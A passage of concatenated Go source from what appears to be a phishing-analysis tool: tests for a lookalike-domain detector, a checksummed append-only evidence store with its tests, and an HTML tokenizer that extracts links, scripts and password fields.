		t.Error("brand's own domain must not be target embedding")
	}
}

func TestDeceptionHomoglyph(t *testing.T) {
	a := newTestAnalyzer()
	tests := []struct {
		host string
		want bool
	}{
		{"micr0soft.com", true},  // 0 for o
		{"acmetrave1.com", true}, // 1 for l
		{"microsoft.com", false},
		{"plainword.com", false},
	}
	for _, tt := range tests {
		got := containsTechnique(a.Analyze(tt.host), DeceptionHomoglyph)
		if got != tt.want {
			t.Errorf("homoglyph(%q) = %v, want %v", tt.host, got, tt.want)
		}
	}
}

func TestDeceptionKeywordStuffing(t *testing.T) {
	a := newTestAnalyzer()
	if !containsTechnique(a.Analyze("secure-login-verify.com"), DeceptionKeywordStuffing) {
		t.Error("secure-login-verify.com must be keyword stuffing")
	}
	if containsTechnique(a.Analyze("login-page.com"), DeceptionKeywordStuffing) {
		t.Error("single keyword must not be keyword stuffing")
	}
}

func TestDeceptionPunycode(t *testing.T) {
	a := newTestAnalyzer()
	if !containsTechnique(a.Analyze("xn--acme-xyz.com"), DeceptionPunycode) {
		t.Error("xn-- label must be punycode")
	}
	if containsTechnique(a.Analyze("plain.com"), DeceptionPunycode) {
		t.Error("plain.com must not be punycode")
	}
}

func TestPlainDomainsNotDeceptive(t *testing.T) {
	// The paper's key finding: most phishing landing domains use NO
	// deceptive syntax at all, which keeps them off scanner shortlists.
	a := newTestAnalyzer()
	for _, host := range []string{"quiet-meadow.com", "bluecoral.ru", "app7.dev", "northwindco.buzz"} {
		if a.IsDeceptive(host) {
			t.Errorf("%q flagged deceptive: %v, want clean", host, a.Analyze(host))
		}
	}
}

func TestDeceptionTechniqueString(t *testing.T) {
	names := map[DeceptionTechnique]string{
		DeceptionTyposquatting:   "typosquatting",
		DeceptionCombosquatting:  "combosquatting",
		DeceptionTargetEmbedding: "target-embedding",
		DeceptionHomoglyph:       "homoglyph",
		DeceptionKeywordStuffing: "keyword-stuffing",
		DeceptionPunycode:        "punycode",
		DeceptionTechnique(99):   "unknown",
	}
	for d, want := range names {
		if d.String() != want {
			t.Errorf("%d.String() = %q, want %q", d, d.String(), want)
		}
	}
}

func containsTechnique(ts []DeceptionTechnique, want DeceptionTechnique) bool {
	for _, t := range ts {
		if t == want {
			return true
		}
	}
	return false
}

func TestDamerauTransposition(t *testing.T) {
	// Adjacent swaps cost 1 (Damerau), not 2 (plain Levenshtein) — the
	// fat-finger typosquats real detectors must catch.
	tests := []struct {
		a, b string
		want int
	}{
		{"farewell", "farweell", 1},
		{"microsoft", "micorsoft", 1},
		{"ab", "ba", 1},
		{"abcd", "badc", 2},
	}
	for _, tt := range tests {
		if got := levenshtein(tt.a, tt.b); got != tt.want {
			t.Errorf("levenshtein(%q, %q) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
	a := newTestAnalyzer()
	if !containsTechnique(a.Analyze("micorsoft.com"), DeceptionTyposquatting) {
		t.Error("transposition typosquat not detected")
	}
}
