//go:build !unix

package evstore

import "os"

// mmap is unavailable on this platform; readers fall back to ReadAt.
func mmap(*os.File, int64) []byte { return nil }

// munmap matches the unix signature; nothing to release.
func munmap([]byte) {}
