//go:build unix

package evstore

import (
	"os"
	"syscall"
)

// mmap maps size bytes of f read-only. Returns nil (fall back to ReadAt)
// when the file is empty or the mapping fails.
func mmap(f *os.File, size int64) []byte {
	if size <= 0 || size > int64(^uint(0)>>1) {
		return nil
	}
	m, err := syscall.Mmap(int(f.Fd()), 0, int(size), syscall.PROT_READ, syscall.MAP_SHARED)
	if err != nil {
		return nil
	}
	return m
}

// munmap releases a mapping produced by mmap.
func munmap(m []byte) {
	_ = syscall.Munmap(m)
}
