package evstore

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"testing"
)

func TestAppendReadRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ev.bin")
	s, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	payloads := [][]byte{
		[]byte("first"),
		{},
		bytes.Repeat([]byte{0xAB}, 70_000), // spans the write buffer
		[]byte("last"),
	}
	handles := make([]Handle, len(payloads))
	for i, p := range payloads {
		h, err := s.Append(Kind(i%2+1), p)
		if err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		if !h.Valid() {
			t.Fatalf("append %d: invalid handle %+v", i, h)
		}
		handles[i] = h
	}
	// Reads on the writable store (flush + ReadAt path).
	for i, h := range handles {
		kind, got, err := s.At(h)
		if err != nil {
			t.Fatalf("writable At %d: %v", i, err)
		}
		if kind != Kind(i%2+1) || !bytes.Equal(got, payloads[i]) {
			t.Fatalf("writable At %d: kind=%d len=%d", i, kind, len(got))
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	// Reads on the reopened read-only (mmap) store.
	r, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for i, h := range handles {
		kind, got, err := r.At(h)
		if err != nil {
			t.Fatalf("readonly At %d: %v", i, err)
		}
		if kind != Kind(i%2+1) || !bytes.Equal(got, payloads[i]) {
			t.Fatalf("readonly At %d: kind=%d len=%d", i, kind, len(got))
		}
	}
	if _, err := r.Append(KindAnalysis, []byte("nope")); !errors.Is(err, ErrReadOnly) {
		t.Fatalf("append on read-only store: %v", err)
	}

	// Full scan visits every record in append order.
	var scanned int
	if err := r.Each(func(h Handle, kind Kind, payload []byte) bool {
		if h != handles[scanned] || !bytes.Equal(payload, payloads[scanned]) {
			t.Fatalf("scan %d: handle %+v want %+v", scanned, h, handles[scanned])
		}
		scanned++
		return true
	}); err != nil {
		t.Fatal(err)
	}
	if scanned != len(payloads) {
		t.Fatalf("scanned %d records, want %d", scanned, len(payloads))
	}
}

func TestZeroHandleInvalid(t *testing.T) {
	var h Handle
	if h.Valid() {
		t.Fatal("zero handle must be invalid")
	}
	s, err := Create(filepath.Join(t.TempDir(), "ev.bin"))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if _, _, err := s.At(h); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("At(zero) = %v, want ErrCorrupt", err)
	}
}

func TestCorruptionDetected(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ev.bin")
	s, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	h, err := s.Append(KindAnalysis, []byte("evidence payload"))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	// Flip one payload byte on disk.
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[h.Offset+recordHeaderSize] ^= 0xFF
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if _, _, err := r.At(h); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("At on corrupted record = %v, want ErrCorrupt", err)
	}
	if err := r.Each(func(Handle, Kind, []byte) bool { return true }); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Each on corrupted store = %v, want ErrCorrupt", err)
	}
}

func TestBadMagicRejected(t *testing.T) {
	path := filepath.Join(t.TempDir(), "not-ev.bin")
	if err := os.WriteFile(path, []byte("definitely not a store"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(path); !errors.Is(err, ErrBadMagic) {
		t.Fatalf("Open(non-store) = %v, want ErrBadMagic", err)
	}
}

func TestConcurrentAppendAndRead(t *testing.T) {
	s, err := Create(filepath.Join(t.TempDir(), "ev.bin"))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	const writers, perWriter = 8, 50
	type tagged struct {
		h       Handle
		payload []byte
	}
	results := make(chan tagged, writers*perWriter)
	done := make(chan struct{})
	for w := 0; w < writers; w++ {
		go func(w int) {
			for i := 0; i < perWriter; i++ {
				p := bytes.Repeat([]byte{byte(w)}, i+1)
				h, err := s.Append(KindExchange, p)
				if err != nil {
					t.Error(err)
					break
				}
				results <- tagged{h, p}
			}
			done <- struct{}{}
		}(w)
	}
	for w := 0; w < writers; w++ {
		<-done
	}
	close(results)
	for r := range results {
		_, got, err := s.At(r.h)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, r.payload) {
			t.Fatalf("payload mismatch at %+v", r.h)
		}
	}
}

// FuzzRecordRoundTrip pins the record codec: whatever payload and kind go
// in must come back intact through both the writable-read and scan paths.
func FuzzRecordRoundTrip(f *testing.F) {
	f.Add(uint8(1), []byte("hello"))
	f.Add(uint8(2), []byte{})
	f.Add(uint8(0xFF), bytes.Repeat([]byte{0x00}, 1024))
	f.Fuzz(func(t *testing.T, kind uint8, payload []byte) {
		s, err := Create(filepath.Join(t.TempDir(), "ev.bin"))
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		h, err := s.Append(Kind(kind), payload)
		if err != nil {
			t.Fatal(err)
		}
		gotKind, got, err := s.At(h)
		if err != nil {
			t.Fatal(err)
		}
		if gotKind != Kind(kind) || !bytes.Equal(got, payload) {
			t.Fatalf("round trip: kind %d→%d, %d→%d bytes", kind, gotKind, len(payload), len(got))
		}
		var scans int
		if err := s.Each(func(sh Handle, sk Kind, sp []byte) bool {
			if sh != h || sk != Kind(kind) || !bytes.Equal(sp, payload) {
				t.Fatalf("scan mismatch: %+v vs %+v", sh, h)
			}
			scans++
			return true
		}); err != nil {
			t.Fatal(err)
		}
		if scans != 1 {
			t.Fatalf("scan visited %d records", scans)
		}
	})
}
