// Package evstore is a compact append-only evidence store: bulky analysis
// artifacts (visit records, DOM snapshots, screenshots, traffic exchanges)
// spill to disk as length-prefixed, checksummed records and are referenced
// back by a fixed-size Handle, so large corpus runs keep O(1) evidence in
// RAM (DESIGN.md §12).
//
// File layout:
//
//	[8]  header  magic "CBEVST1\n"
//	[9+] records, each
//	       [1]  kind      (caller-defined record type)
//	       [4]  length    (big-endian payload length)
//	       [4]  checksum  (CRC-32/IEEE of the payload)
//	       [n]  payload
//
// Records are self-framing, so the file can be scanned sequentially without
// an external index; a Handle (offset + length) addresses one record
// directly. Reads on a writable store go through the OS file (ReadAt after
// flush); a store opened read-only maps the file and serves zero-copy
// subslices of the mapping.
package evstore

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"sync"
)

// magic is the 8-byte file header.
var magic = [8]byte{'C', 'B', 'E', 'V', 'S', 'T', '1', '\n'}

// headerSize is the offset of the first record.
const headerSize = 8

// recordHeaderSize frames every record: kind, length, checksum.
const recordHeaderSize = 1 + 4 + 4

// MaxRecordSize bounds one record's payload (64 MiB) — a corrupt length
// prefix must not drive a multi-gigabyte allocation.
const MaxRecordSize = 64 << 20

// Errors surfaced by the store.
var (
	// ErrBadMagic indicates the file is not an evidence store.
	ErrBadMagic = errors.New("evstore: bad magic")
	// ErrCorrupt indicates a record failed its checksum or framing.
	ErrCorrupt = errors.New("evstore: corrupt record")
	// ErrReadOnly indicates an append to a store opened with Open.
	ErrReadOnly = errors.New("evstore: store is read-only")
	// ErrClosed indicates use after Close.
	ErrClosed = errors.New("evstore: closed")
)

// Kind tags a record's type so mixed evidence shares one file.
type Kind uint8

// Record kinds used by the pipeline. The store itself is agnostic; these
// live here so producers and consumers agree on the tag space.
const (
	// KindAnalysis is a spilled message-analysis evidence record.
	KindAnalysis Kind = 1
	// KindExchange is a spilled network exchange (webnet traffic spill).
	KindExchange Kind = 2
	// KindSpanBatch is one message's span tree, stored by the tracestore
	// triage index as trace JSONL (obs.WriteJSONL for a single trace).
	KindSpanBatch Kind = 3
	// KindVerdict is one message's verdict row: outcome, landing domain,
	// cloak flags, and the per-visit evidence facts the tracestore
	// re-adjudicates from (tracestore.Verdict as JSON).
	KindVerdict Kind = 4
	// KindMetrics is a run's metrics snapshot ([]obs.Point as JSON).
	KindMetrics Kind = 5
	// KindTraceIndex is the tracestore's inverted index over its verdict
	// and span records; always the final record of a finalized segment.
	KindTraceIndex Kind = 6
	// KindIngestSpec is one submitted message spec in a continuous-ingest
	// log (ingest.Spec as JSON): the append-only record of accepted work.
	KindIngestSpec Kind = 7
	// KindIngestDone is one emitted verdict in a continuous-ingest log
	// (ingest.Emitted as JSON); a spec with a matching done record is
	// complete and is re-emitted — not re-analyzed — on resume.
	KindIngestDone Kind = 8
)

// Handle addresses one record. The zero Handle is invalid (the first
// record starts at offset headerSize), so "no evidence" needs no flag.
type Handle struct {
	Offset int64
	Len    uint32 // payload length, excluding the record header
}

// Valid reports whether the handle addresses a record.
func (h Handle) Valid() bool { return h.Offset >= headerSize }

// Store is an append-only evidence file. Append/Flush/At are safe for
// concurrent use; a read-only store additionally serves At from an mmap
// with no locking on the data path.
type Store struct {
	mu     sync.Mutex
	f      *os.File
	w      *bufio.Writer // nil on read-only stores
	size   int64         // file size including buffered bytes
	mapped []byte        // non-nil on read-only stores when mmap succeeded
	closed bool
}

// Create creates (or truncates) a writable store at path.
func Create(path string) (*Store, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return nil, err
	}
	w := bufio.NewWriterSize(f, 1<<16)
	if _, err := w.Write(magic[:]); err != nil {
		f.Close()
		return nil, err
	}
	return &Store{f: f, w: w, size: headerSize}, nil
}

// OpenAppend opens an existing store for appending: new records land after
// the current last byte. Used by the ingest journal, where a restarted
// daemon continues the same append-only log it recovered its state from.
func OpenAppend(path string) (*Store, error) {
	f, err := os.OpenFile(path, os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	var hdr [headerSize]byte
	if _, err := io.ReadFull(f, hdr[:]); err != nil || hdr != magic {
		f.Close()
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrBadMagic, err)
		}
		return nil, ErrBadMagic
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return nil, err
	}
	w := bufio.NewWriterSize(f, 1<<16)
	return &Store{f: f, w: w, size: st.Size()}, nil
}

// Open opens an existing store read-only, mapping it into memory when the
// platform supports it (reads are zero-copy subslices of the mapping).
func Open(path string) (*Store, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	var hdr [headerSize]byte
	if _, err := io.ReadFull(f, hdr[:]); err != nil || hdr != magic {
		f.Close()
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrBadMagic, err)
		}
		return nil, ErrBadMagic
	}
	s := &Store{f: f, size: st.Size()}
	s.mapped = mmap(f, st.Size()) // nil on failure or unsupported platform
	return s, nil
}

// Append writes one record and returns its handle. The record is buffered;
// it is durable (and readable through At) after Flush or Close.
//
//cblint:hotpath
func (s *Store) Append(kind Kind, payload []byte) (Handle, error) {
	if len(payload) > MaxRecordSize {
		return Handle{}, fmt.Errorf("evstore: payload %d exceeds max %d", len(payload), MaxRecordSize)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return Handle{}, ErrClosed
	}
	if s.w == nil {
		return Handle{}, ErrReadOnly
	}
	var hdr [recordHeaderSize]byte
	hdr[0] = byte(kind)
	binary.BigEndian.PutUint32(hdr[1:5], uint32(len(payload)))
	binary.BigEndian.PutUint32(hdr[5:9], crc32.ChecksumIEEE(payload))
	h := Handle{Offset: s.size, Len: uint32(len(payload))}
	if _, err := s.w.Write(hdr[:]); err != nil {
		return Handle{}, err
	}
	if _, err := s.w.Write(payload); err != nil {
		return Handle{}, err
	}
	s.size += recordHeaderSize + int64(len(payload))
	return h, nil
}

// Flush pushes buffered records to the OS so At (and other readers of the
// underlying file) can see them.
func (s *Store) Flush() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.flushLocked()
}

func (s *Store) flushLocked() error {
	if s.closed {
		return ErrClosed
	}
	if s.w == nil {
		return nil
	}
	return s.w.Flush()
}

// At reads the record a handle addresses, verifying kind framing and the
// payload checksum. On a read-only mmap-backed store the returned slice
// aliases the mapping (zero-copy) and must not be modified; on a writable
// store it is a private copy read after an implicit flush.
func (s *Store) At(h Handle) (Kind, []byte, error) {
	if !h.Valid() {
		return 0, nil, fmt.Errorf("%w: invalid handle", ErrCorrupt)
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return 0, nil, ErrClosed
	}
	end := h.Offset + recordHeaderSize + int64(h.Len)
	if end > s.size {
		s.mu.Unlock()
		return 0, nil, fmt.Errorf("%w: handle beyond end of store", ErrCorrupt)
	}
	if s.mapped != nil {
		m := s.mapped
		s.mu.Unlock()
		return verifyRecord(m[h.Offset:end:end], h.Len, true)
	}
	if err := s.flushLocked(); err != nil {
		s.mu.Unlock()
		return 0, nil, err
	}
	buf := make([]byte, recordHeaderSize+int(h.Len))
	_, err := s.f.ReadAt(buf, h.Offset)
	s.mu.Unlock()
	if err != nil {
		return 0, nil, err
	}
	return verifyRecord(buf, h.Len, false)
}

// verifyRecord checks one framed record against the handle's length and the
// stored checksum. aliased marks a zero-copy mmap slice.
func verifyRecord(rec []byte, wantLen uint32, aliased bool) (Kind, []byte, error) {
	kind := Kind(rec[0])
	n := binary.BigEndian.Uint32(rec[1:5])
	sum := binary.BigEndian.Uint32(rec[5:9])
	if n != wantLen {
		return 0, nil, fmt.Errorf("%w: length mismatch (record %d, handle %d)", ErrCorrupt, n, wantLen)
	}
	payload := rec[recordHeaderSize:]
	if crc32.ChecksumIEEE(payload) != sum {
		return 0, nil, fmt.Errorf("%w: checksum mismatch", ErrCorrupt)
	}
	_ = aliased
	return kind, payload, nil
}

// Each scans every record in append order, calling fn with each record's
// handle, kind, and payload. Return false to stop. The payload slice is
// only valid during the call on writable stores (the scan buffer is
// reused); on mmap-backed stores it aliases the mapping.
func (s *Store) Each(fn func(h Handle, kind Kind, payload []byte) bool) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if err := s.flushLocked(); err != nil {
		s.mu.Unlock()
		return err
	}
	size := s.size
	mapped := s.mapped
	f := s.f
	s.mu.Unlock()

	if mapped != nil {
		off := int64(headerSize)
		for off < size {
			if off+recordHeaderSize > size {
				return fmt.Errorf("%w: truncated record header at %d", ErrCorrupt, off)
			}
			n := binary.BigEndian.Uint32(mapped[off+1 : off+5])
			if int64(n) > MaxRecordSize || off+recordHeaderSize+int64(n) > size {
				return fmt.Errorf("%w: record at %d overruns store", ErrCorrupt, off)
			}
			end := off + recordHeaderSize + int64(n)
			kind, payload, err := verifyRecord(mapped[off:end:end], n, true)
			if err != nil {
				return fmt.Errorf("record at %d: %w", off, err)
			}
			if !fn(Handle{Offset: off, Len: n}, kind, payload) {
				return nil
			}
			off = end
		}
		return nil
	}

	r := bufio.NewReaderSize(io.NewSectionReader(f, headerSize, size-headerSize), 1<<16)
	off := int64(headerSize)
	var hdr [recordHeaderSize]byte
	var buf []byte
	for off < size {
		if _, err := io.ReadFull(r, hdr[:]); err != nil {
			return fmt.Errorf("%w: truncated record header at %d: %v", ErrCorrupt, off, err)
		}
		n := binary.BigEndian.Uint32(hdr[1:5])
		if int64(n) > MaxRecordSize || off+recordHeaderSize+int64(n) > size {
			return fmt.Errorf("%w: record at %d overruns store", ErrCorrupt, off)
		}
		if cap(buf) < recordHeaderSize+int(n) {
			buf = make([]byte, recordHeaderSize+int(n))
		}
		rec := buf[:recordHeaderSize+int(n)]
		copy(rec, hdr[:])
		if _, err := io.ReadFull(r, rec[recordHeaderSize:]); err != nil {
			return fmt.Errorf("%w: truncated payload at %d: %v", ErrCorrupt, off, err)
		}
		kind, payload, err := verifyRecord(rec, n, false)
		if err != nil {
			return fmt.Errorf("record at %d: %w", off, err)
		}
		if !fn(Handle{Offset: off, Len: n}, kind, payload) {
			return nil
		}
		off += recordHeaderSize + int64(n)
	}
	return nil
}

// Size returns the store's current size in bytes (including buffered,
// unflushed records).
func (s *Store) Size() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.size
}

// Close flushes and closes the store. A mapped store unmaps first.
func (s *Store) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	var err error
	if s.w != nil {
		err = s.w.Flush()
	}
	if s.mapped != nil {
		munmap(s.mapped)
		s.mapped = nil
	}
	if cerr := s.f.Close(); err == nil {
		err = cerr
	}
	return err
}
