// Package htmlx implements a small HTML tokenizer and document tree used by
// the CrawlerBox parsing phase and the simulated browser. It is not a full
// HTML5 parser; it covers the constructs that matter for phishing analysis:
// elements with quoted/unquoted attributes, raw-text handling for <script>
// and <style>, comments, void elements, entity decoding, and extraction of
// URLs (anchors, forms, iframes, images, meta refresh) and scripts.
package htmlx

import (
	"strings"
)

// NodeKind discriminates tree nodes.
type NodeKind int

// Node kinds.
const (
	KindElement NodeKind = iota + 1
	KindText
	KindComment
)

// Node is one node of the parsed document tree.
type Node struct {
	Kind     NodeKind
	Tag      string            // lowercase tag name for elements
	Attrs    map[string]string // lowercase attribute names
	Text     string            // content for text/comment nodes
	Children []*Node
	Parent   *Node
}

// _voidElements never have closing tags.
var _voidElements = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true,
	"hr": true, "img": true, "input": true, "link": true, "meta": true,
	"param": true, "source": true, "track": true, "wbr": true,
}

// _rawTextElements swallow content until their literal closing tag.
var _rawTextElements = map[string]bool{"script": true, "style": true, "textarea": true, "title": true}

// Parse builds a document tree from HTML source. It never fails: malformed
// input produces a best-effort tree, mirroring browser behavior (phishing
// pages are routinely malformed on purpose).
func Parse(src string) *Node {
	root := &Node{Kind: KindElement, Tag: "#document", Attrs: map[string]string{}}
	cur := root
	i := 0
	n := len(src)
	for i < n {
		if src[i] != '<' {
			j := strings.IndexByte(src[i:], '<')
			if j < 0 {
				j = n - i
			}
			text := src[i : i+j]
			if strings.TrimSpace(text) != "" {
				cur.Children = append(cur.Children, &Node{
					Kind: KindText, Text: DecodeEntities(text), Parent: cur,
				})
			}
			i += j
			continue
		}
		// Comment.
		if strings.HasPrefix(src[i:], "<!--") {
			end := strings.Index(src[i+4:], "-->")
			if end < 0 {
				cur.Children = append(cur.Children, &Node{Kind: KindComment, Text: src[i+4:], Parent: cur})
				break
			}
			cur.Children = append(cur.Children, &Node{Kind: KindComment, Text: src[i+4 : i+4+end], Parent: cur})
			i += 4 + end + 3
			continue
		}
		// Doctype or processing instruction: skip to '>'.
		if strings.HasPrefix(src[i:], "<!") || strings.HasPrefix(src[i:], "<?") {
			end := strings.IndexByte(src[i:], '>')
			if end < 0 {
				break
			}
			i += end + 1
			continue
		}
		// Closing tag.
		if strings.HasPrefix(src[i:], "</") {
			end := strings.IndexByte(src[i:], '>')
			if end < 0 {
				break
			}
			name := strings.ToLower(strings.TrimSpace(src[i+2 : i+end]))
			// Pop up to the matching open element, if present.
			for p := cur; p != nil && p != root.Parent; p = p.Parent {
				if p.Tag == name {
					cur = p.Parent
					break
				}
			}
			if cur == nil {
				cur = root
			}
			i += end + 1
			continue
		}
		// Opening tag.
		tagEnd := findTagEnd(src, i)
		if tagEnd < 0 {
			break
		}
		raw := src[i+1 : tagEnd]
		selfClose := strings.HasSuffix(strings.TrimSpace(raw), "/")
		if selfClose {
			raw = strings.TrimSuffix(strings.TrimSpace(raw), "/")
		}
		name, attrs := parseTag(raw)
		i = tagEnd + 1
		if name == "" {
			continue
		}
		el := &Node{Kind: KindElement, Tag: name, Attrs: attrs, Parent: cur}
		cur.Children = append(cur.Children, el)
		if _rawTextElements[name] && !selfClose {
			closing := "</" + name
			idx := indexFold(src[i:], closing)
			var content string
			if idx < 0 {
				content = src[i:]
				i = n
			} else {
				content = src[i : i+idx]
				gt := strings.IndexByte(src[i+idx:], '>')
				if gt < 0 {
					i = n
				} else {
					i += idx + gt + 1
				}
			}
			if content != "" {
				el.Children = append(el.Children, &Node{Kind: KindText, Text: content, Parent: el})
			}
			continue
		}
		if !selfClose && !_voidElements[name] {
			cur = el
		}
	}
	return root
}

// findTagEnd returns the index of the '>' closing the tag that starts at
// src[start] == '<', honoring quoted attribute values.
func findTagEnd(src string, start int) int {
	var quote byte
	for i := start + 1; i < len(src); i++ {
		c := src[i]
		switch {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '"' || c == '\'':
			quote = c
		case c == '>':
			return i
		}
	}
	return -1
}

// parseTag splits a raw tag body into its name and attribute map.
func parseTag(raw string) (string, map[string]string) {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return "", nil
	}
	nameEnd := len(raw)
	for i, r := range raw {
		if r == ' ' || r == '\t' || r == '\n' || r == '\r' {
			nameEnd = i
			break
		}
	}
	name := strings.ToLower(raw[:nameEnd])
	attrs := map[string]string{}
	i := nameEnd
	for i < len(raw) {
		// Skip whitespace.
		for i < len(raw) && isSpace(raw[i]) {
			i++
		}
		if i >= len(raw) {
			break
		}
		// Attribute name.
		keyStart := i
		for i < len(raw) && raw[i] != '=' && !isSpace(raw[i]) {
			i++
		}
		key := strings.ToLower(raw[keyStart:i])
		for i < len(raw) && isSpace(raw[i]) {
			i++
		}
		if i >= len(raw) || raw[i] != '=' {
			if key != "" {
				attrs[key] = "" // boolean attribute
			}
			continue
		}
		i++ // skip '='
		for i < len(raw) && isSpace(raw[i]) {
			i++
		}
		var val string
		if i < len(raw) && (raw[i] == '"' || raw[i] == '\'') {
			q := raw[i]
			i++
			valStart := i
			for i < len(raw) && raw[i] != q {
				i++
			}
			val = raw[valStart:i]
			if i < len(raw) {
				i++
			}
		} else {
			valStart := i
			for i < len(raw) && !isSpace(raw[i]) {
				i++
			}
			val = raw[valStart:i]
		}
		if key != "" {
			attrs[key] = DecodeEntities(val)
		}
	}
	return name, attrs
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r'
}

func indexFold(s, needle string) int {
	n := len(needle)
	for i := 0; i+n <= len(s); i++ {
		if strings.EqualFold(s[i:i+n], needle) {
			return i
		}
	}
	return -1
}

// DecodeEntities decodes the common named and numeric HTML entities.
func DecodeEntities(s string) string {
	if !strings.ContainsRune(s, '&') {
		return s
	}
	replacer := strings.NewReplacer(
		"&amp;", "&", "&lt;", "<", "&gt;", ">", "&quot;", `"`,
		"&#39;", "'", "&apos;", "'", "&nbsp;", " ",
	)
	return replacer.Replace(s)
}

// Walk visits every node depth-first.
func Walk(root *Node, fn func(*Node)) {
	fn(root)
	for _, c := range root.Children {
		Walk(c, fn)
	}
}

// Find returns all elements with the given tag name.
func Find(root *Node, tag string) []*Node {
	var out []*Node
	Walk(root, func(n *Node) {
		if n.Kind == KindElement && n.Tag == tag {
			out = append(out, n)
		}
	})
	return out
}

// Attr returns an attribute value (empty when absent).
func (n *Node) Attr(name string) string {
	if n.Attrs == nil {
		return ""
	}
	return n.Attrs[strings.ToLower(name)]
}

// InnerText concatenates all text descendants.
func (n *Node) InnerText() string {
	var sb strings.Builder
	Walk(n, func(q *Node) {
		if q.Kind == KindText {
			sb.WriteString(q.Text)
		}
	})
	return sb.String()
}

// LinkRef is a URL reference discovered in a document.
type LinkRef struct {
	URL    string
	Tag    string // element that referenced it
	Attr   string // attribute it came from
	Inline bool   // true for javascript:/data: pseudo-URLs
}

// _urlAttrs maps tags to the attributes that carry URLs.
var _urlAttrs = map[string][]string{
	"a": {"href"}, "area": {"href"}, "link": {"href"}, "base": {"href"},
	"img": {"src"}, "script": {"src"}, "iframe": {"src"}, "frame": {"src"},
	"embed": {"src"}, "source": {"src"}, "form": {"action"},
	"object": {"data"}, "input": {"src", "formaction"}, "button": {"formaction"},
}

// ExtractLinks returns every URL reference in the document, including meta
// refresh redirects. Pseudo-URLs (javascript:, data:) are flagged Inline.
func ExtractLinks(root *Node) []LinkRef {
	var out []LinkRef
	Walk(root, func(n *Node) {
		if n.Kind != KindElement {
			return
		}
		for _, attr := range _urlAttrs[n.Tag] {
			v := strings.TrimSpace(n.Attr(attr))
			if v == "" {
				continue
			}
			out = append(out, LinkRef{
				URL:    v,
				Tag:    n.Tag,
				Attr:   attr,
				Inline: hasPseudoScheme(v),
			})
		}
		// <meta http-equiv="refresh" content="0; url=https://...">
		if n.Tag == "meta" && strings.EqualFold(n.Attr("http-equiv"), "refresh") {
			content := n.Attr("content")
			if idx := indexFold(content, "url="); idx >= 0 {
				u := strings.TrimSpace(content[idx+4:])
				u = strings.Trim(u, `"' `)
				if u != "" {
					out = append(out, LinkRef{URL: u, Tag: "meta", Attr: "content", Inline: hasPseudoScheme(u)})
				}
			}
		}
	})
	return out
}

func hasPseudoScheme(u string) bool {
	lower := strings.ToLower(strings.TrimSpace(u))
	return strings.HasPrefix(lower, "javascript:") || strings.HasPrefix(lower, "data:")
}

// Script is an executable script discovered in a document.
type Script struct {
	Src    string // external source URL, if any
	Source string // inline source text, if any
}

// ExtractScripts returns the document's scripts in order.
func ExtractScripts(root *Node) []Script {
	var out []Script
	Walk(root, func(n *Node) {
		if n.Kind != KindElement || n.Tag != "script" {
			return
		}
		s := Script{Src: strings.TrimSpace(n.Attr("src"))}
		if s.Src == "" {
			s.Source = n.InnerText()
		}
		out = append(out, s)
	})
	return out
}

// Forms returns the document's form elements.
func Forms(root *Node) []*Node {
	return Find(root, "form")
}

// HasPasswordInput reports whether the document contains a password field —
// the telltale of a credential-harvesting page.
func HasPasswordInput(root *Node) bool {
	for _, input := range Find(root, "input") {
		if strings.EqualFold(input.Attr("type"), "password") {
			return true
		}
	}
	return false
}
