package htmlx

import (
	"sort"
	"strings"
)

// Render serializes a tree back to HTML text. Attribute order is sorted for
// determinism; raw-text elements keep their content verbatim.
func Render(n *Node) string {
	var sb strings.Builder
	renderNode(&sb, n)
	return sb.String()
}

func renderNode(sb *strings.Builder, n *Node) {
	switch n.Kind {
	case KindText:
		if n.Parent != nil && _rawTextElements[n.Parent.Tag] {
			sb.WriteString(n.Text)
		} else {
